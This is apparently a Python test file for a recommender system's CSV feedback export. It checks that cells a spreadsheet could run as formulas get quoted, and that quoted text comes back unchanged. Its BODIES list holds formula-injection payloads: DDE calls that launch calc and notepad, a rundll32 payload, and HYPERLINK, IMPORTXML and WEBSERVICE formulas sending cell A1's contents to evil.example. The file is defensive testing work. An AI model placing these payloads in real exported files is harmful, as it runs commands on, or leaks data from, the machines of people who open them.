"""No cell is a formula, whatever a spreadsheet takes for a separator, and every text comes back."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from recsys.feedback.cells import quoted, unquoted
from recsys.feedback.formats import comma_separated
from recsys.feedback.rows import Table

LEADS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BODIES = (
    "", "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"click")', "SUM(1+1)*cmd|' /C calc'!A0",
    "2+5+cmd|' /C notepad'!A0", 'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")', "rundll32|'URL.dll,X'!A",
    'WEBSERVICE("http://evil.example")', "49 123 456", "1.5", "anna", "A1:B2", "'", '"', '"";=1+1', ";=1", ",=1", "\n=1",
    "\t=1", "\r\n@x", "=", "==", "+-@", " ", "''", "'=1", "é", "日本", "😀", "x" * 500, "a,b", 'a"b', "a;b", "a\nb", "a\tb",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "@SUM(A1)", "-2+3", "0x1F", "TRUE", "#REF!", "{1,2}", "[1]", "<b>", "\\", "|", "%0A",
    "http://evil.example", "mailto:a@b.example",
)  # fmt: skip
BLANKS = ("", " ", "  ", "\u00a0", "\ufeff", "\u200b", '"')
HOSTILE = st.text(alphabet=[*"=+-@\t\r\n;,'\" a＝－\u00a0\ufeff"], max_size=12) | st.text(max_size=20)

TOKENS = st.lists(st.sampled_from([*"=+-@\t\r\n;,'\" ", "x", "＝"]), max_size=6).map("".join)


def is_formula(cell: str) -> bool:
    """What a spreadsheet may calculate: its first visible character, quotes aside, begins a formula."""
    visible = (char for char in cell if char.isprintable() and not char.isspace() and char != '"')
    return next(visible, "x") in "=+-@＝＋－＠"


def written(*texts: str) -> str:
    """A CSV file of two rows alike."""
    columns = tuple(f"c{n}" for n in range(len(texts)))
    row = dict(zip(columns, texts, strict=True))
    return "".join(comma_separated(Table(columns, iter([row, row]))))


def test_there_are_fifty_bodies() -> None:
    assert len(set(BODIES)) >= 50


@pytest.mark.parametrize("lead", LEADS)
@pytest.mark.parametrize("blank", BLANKS)
def test_a_formula_is_quoted_and_comes_back(lead: str, blank: str) -> None:
    for body in BODIES:
        text = blank + lead + body
        assert quoted(text).startswith("'")
        assert unquoted(quoted(text)) == text


@pytest.mark.parametrize("text", ["", "Celeste", "a = b", "rock-paper", "50 % off", "a; b", "two\nlines", "it's"])
def test_what_cannot_be_a_formula_stays_as_it_is(text: str) -> None:
    assert quoted(text) == text


@given(HOSTILE)
def test_every_text_comes_back(text: str) -> None:
    assert unquoted(quoted(text)) == text


@given(st.lists(HOSTILE, min_size=1, max_size=4))
def test_a_file_comes_back(texts: list[str]) -> None:
    _, *rows = csv.reader(io.StringIO(written(*texts), newline=""), strict=True)
    assert [[unquoted(cell) for cell in row] for row in rows] == [texts, texts]


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@settings(max_examples=300)
@example(texts=["x", ";=1", '\t"=1', "\n +1"])
@given(texts=st.lists(TOKENS, min_size=2, max_size=4))
def test_no_cell_is_a_formula_whatever_separates_them(separator: str, texts: list[str]) -> None:
    rows = csv.reader(io.StringIO(written(*texts), newline=""), delimiter=separator)
    assert [cell for row in rows for cell in row if is_formula(cell)] == []


@given(st.integers(1, 4_000))
def test_many_blanks_cost_little(n: int) -> None:
    assert quoted(" " * n + "x") == " " * n + "x"
    assert quoted(" " * n + "=") == "'" + " " * n + "="
